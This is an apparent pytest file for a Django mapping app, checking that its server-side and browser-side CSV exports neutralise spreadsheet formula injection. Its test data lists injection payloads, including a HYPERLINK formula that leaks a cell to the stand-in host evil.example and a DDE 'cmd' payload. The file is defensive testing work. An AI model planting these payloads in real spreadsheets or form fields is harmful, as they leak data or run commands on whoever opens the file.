"""#12 item 7: CSV injection neutralised (OWASP) in every CSV the server writes, and in the officer map's."""
import csv
import io
import json
import subprocess
from pathlib import Path

import pytest

from gis_app.core.csv_safe import safe_cell
from gis_app.registry.models import Producer

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1", "  =1+1"]


def test_safe_cell_follows_owasp():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    for fine in ["Cơ sở Năm Lợi", "a=b", "email@example.vn", "", "0274 3822 123"]:
        assert safe_cell(fine) == fine
    assert safe_cell(-5) == -5 and safe_cell(106.65) == 106.65 and safe_cell(None) is None


@pytest.fixture
def poisoned(db):
    """Published producers whose text fields hold formulas (names and addresses are typed by households)."""
    producers = list(Producer.objects.published().order_by("pk")[:len(ATTACKS)])
    for producer, attack in zip(producers, ATTACKS):
        Producer.objects.filter(pk=producer.pk).update(name=attack, address=attack)
    return producers


def csv_rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_layer_export_csv_is_neutralised(client, poisoned):
    rows = {int(r["id"]) if "id" in r else r["ref"]: r for r in csv_rows(client.get("/export/producers.csv").content)}
    by_name = {r["name"]: r for r in rows.values()}
    for attack in ATTACKS:
        assert "'" + attack in by_name, attack
        assert by_name["'" + attack]["address"] == "'" + attack
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows.values() for value in r.values())
    # other formats carry the data as it is
    geojson = json.loads(client.get("/export/producers.geojson").content)
    assert {f["properties"]["name"] for f in geojson["features"]} >= set(ATTACKS)


@pytest.mark.django_db
def test_supply_csv_is_neutralised(admin_client, poisoned):
    response = admin_client.get("/api/v1/supply/clusters/export.csv", {"method": "kmeans", "k": 3},
                                HTTP_ACCEPT_LANGUAGE="en")  # headed in the request's language
    names = {r["Name"] for r in csv_rows(response.content)}
    assert {"'" + attack for attack in ATTACKS} <= names


def test_officer_map_csv_in_the_browser_follows_the_same_rule():
    """ocop.js's csvCell, run by node, gives the cells Python's csv module writes from `safe_cell`."""
    values = [*ATTACKS, "Cơ sở Năm Lợi", "a,b", 'say "hi"', -5, 106.65]
    script = ("global.window = {}; require(process.argv[1]); "
              "process.stdout.write(JSON.stringify(JSON.parse(process.argv[2]).map(window.OCOP.csvCell)));")
    done = subprocess.run(["node", "-e", script, str(ROOT / "gis_app/web/static/web/ocop.js"), json.dumps(values)],
                          capture_output=True, text=True, check=True)
    browser = json.loads(done.stdout)
    for value, cell in zip(values, browser):
        out = io.StringIO()
        csv.writer(out).writerow([safe_cell(value)])
        assert cell == out.getvalue().removesuffix("\r\n"), value
